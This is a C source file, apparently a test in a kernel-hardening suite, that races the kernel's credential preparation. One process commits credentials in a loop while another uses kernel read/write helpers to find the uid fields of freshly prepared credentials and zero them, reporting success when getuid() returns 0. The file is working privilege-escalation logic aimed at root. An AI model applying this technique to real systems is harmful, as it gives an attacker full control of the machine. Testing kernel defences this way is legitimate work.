// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attack on credentials while they are prepared, in ordinary memory: one process has
 * the kernel prepare and commit the same ones for ever, and another one writes ids
 * into all places where they are prepared.
 */
#include <signal.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <unistd.h>

#include "attack.h"
#include "creds.h"
#include "list.h"
#include "objects.h"

#define CHANGER_CPU	1
#define PLACES		64
#define LOOKS		400
#define SECONDS		20

/* Shared with who commits. */
static struct {
	volatile unsigned long rounds;
	volatile bool go, found;
} *committer;

/* It prepares credentials, changes no id, and commits them. */
static void commit_for_ever(void)
{
	stay_on_cpu(CHANGER_CPU);
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	while (getuid()) {
		prctl(PR_SET_KEEPCAPS, committer->rounds & 1);
		committer->rounds++;
	}
	committer->found = true;
	pause();
}

/* Where ids are in what has been prepared so far; memory is used again and again. */
static int find_places(pid_t pid, uint64_t *places)
{
	struct task task;
	int i, n, nr = 0;
	uint64_t at;

	for (i = 0; i < LOOKS && nr < PLACES; i++) {
		at = ktask(pid, &task) ? 0 : find_prepared(task.cred);
		at = at ? find_ids(at) : 0;
		for (n = 0; n < nr && places[n] != at; n++)
			;
		if (at && n == nr)
			places[nr++] = at;
	}
	return nr;
}

static bool overwrite(pid_t pid, const uint64_t *places, int nr)
{
	static const unsigned int zeros[CRED_IDS];
	uint64_t end = now_ms() + SECONDS * 1000;
	bool killed = false;
	int i;

	while (!committer->found && !killed && now_ms() < end) {
		for (i = 0; i < nr; i++)
			kwrite(places[i], zeros, sizeof(zeros));
		killed = was_killed(pid);
	}
	return killed;
}

enum outcome cred_prepared(void)
{
	uint64_t places[PLACES];
	bool killed;
	pid_t pid;
	int nr;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	committer = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	stay_on_cpu(0);
	pid = fork();
	if (!pid)
		commit_for_ever();
	nr = find_places(pid, places);
	if (!nr)
		return broken("no credentials found");
	killed = overwrite(pid, places, nr);
	if (killed)
		return lost("who committed was killed");
	if (!committer->found)
		return lost("%lu commits, %d places: all kept uid=%d", committer->rounds, nr, ATTACKER_UID);
	return won("ids of prepared credentials overwritten in one of %d places: getuid() gave 0 after %lu commits",
		   nr, committer->rounds);
}
